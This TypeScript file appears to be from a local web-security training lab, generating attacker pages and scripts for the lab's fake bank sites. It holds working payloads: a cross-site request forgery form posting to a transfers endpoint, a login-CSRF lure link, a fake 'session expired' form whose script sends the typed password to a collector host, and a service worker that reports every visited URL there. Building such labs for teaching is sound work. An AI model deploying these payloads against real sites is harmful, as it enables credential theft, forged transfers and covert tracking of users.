import { originOf, type BankName, type Places } from './places.ts'

const page = (title: string, body: string) => `<!doctype html>
<html lang="en"><meta charset="utf-8"><meta name="viewport" content="width=device-width"><title>${title}</title>
<link rel="icon" href="data:,"><link rel="stylesheet" href="/lab.css"><main class="lure">${body}</main></html>`

const explained = (text: string) => `<aside class="honest"><h2>What this is</h2><p>${text}</p></aside>`

/** The attacker's page for cross-site request forgery. A click is all it needs, and no script. */
export function forgeryPage(places: Places, host: string, bank: BankName): string {
  const action = `${originOf(places, bank)}/api/transfers`
  return page(
    'A kitten for you',
    `<p class="where"><code>${host}.localhost</code>, a page of the attacker</p><h1>You have won a kitten!</h1>
<form method="post" action="${action}"><button id="lure">Show me the kitten</button></form>
${explained(`The button is a form that posts to <code>${action}</code>. Whether the bank’s cookie goes with it is up to your browser; whether that is enough is up to the bank. A real attacker would not wait for a click.`)}`,
  )
}

/** The attacker's page for login CSRF: a link that ends a login which the attacker began. */
export function loginForgeryPage(bank: BankName, callback: string): string {
  return page(
    'Your parcel',
    `<p class="where"><code>evil.localhost</code>, a page of the attacker</p><h1>Your parcel is waiting</h1>
<p><a id="lure" href="${callback.replaceAll('&', '&amp;')}">Track my parcel</a></p>
${explained(`The link goes to the login callback of <code>${bank}.localhost</code>, with a code for the account of the <em>attacker</em>, who has just begun that login on another machine. Whoever is logged in there without noticing types their data into somebody else’s account.`)}`,
  )
}

/** What an injected script does that wants to stay. */
export function installScript(): string {
  return `navigator.serviceWorker.register('/worker.js').catch(() => {})`
}

/** A login form that is none. What is typed goes to the attacker, and the lab forgets it. */
export function phishingScript(places: Places): string {
  return `(() => {
const form = document.createElement('form')
form.id = 'phish'
form.innerHTML = '<h2>Your session has expired</h2><p><label>Password <input type="password" name="password"></label></p><button>Log in again</button>'
form.onsubmit = (event) => {
  event.preventDefault()
  fetch('${originOf(places, 'collector')}/phish', { method: 'POST', mode: 'no-cors', body: form.elements.password.value })
  form.remove()
}
document.querySelector('main').prepend(form)
})()`
}

/** The service worker: from the next visit on it sees every request of the page, and tells the attacker. */
export function workerScript(places: Places): string {
  return `self.addEventListener('install', () => self.skipWaiting())
self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()))
self.addEventListener('fetch', (event) => {
  if (event.request.mode !== 'navigate') return
  event.waitUntil(fetch('${originOf(places, 'collector')}/worker?bank=' + self.location.hostname.split('.')[0], { method: 'POST', mode: 'no-cors', body: event.request.url }))
})
`
}
